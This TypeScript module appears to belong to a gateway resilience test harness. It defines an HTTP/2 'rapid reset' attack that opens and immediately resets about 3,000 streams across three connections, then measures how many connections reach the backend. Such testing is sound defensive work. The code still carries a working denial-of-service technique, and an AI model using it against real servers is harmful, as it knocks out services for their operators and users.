import { plain, type Attack } from '../harness/attack.js'
import { openConnection, requests, resets } from '../harness/http2.js'
import { ordinary, pause } from '../harness/ordinary.js'

export const http2Resets: Attack = {
  name: 'http2-resets',
  sent: '3,000 streams of HTTP/2 that are opened and reset at once, on three connections ("rapid reset")',
  targets: [ordinary],
  gateway: targets => ({ plugin: plain(targets), server: { http2: true } }),
  async run (stage) {
    for (let i = 0; i < 3; i++) {
      const socket = await stage.open()
      const count = stage.scale(1_000)
      const bytes = [openConnection()]
      for (let n = 0; n < count; n++) bytes.push(requests('/slow', 1, 1 + 2 * n), resets(1, 1 + 2 * n))
      socket.resume().write(Buffer.concat(bytes))
      await pause(1_000)
    }
    await pause(1_500)
    return `${stage.peakConnections()} connections to the target at most`
  }
}
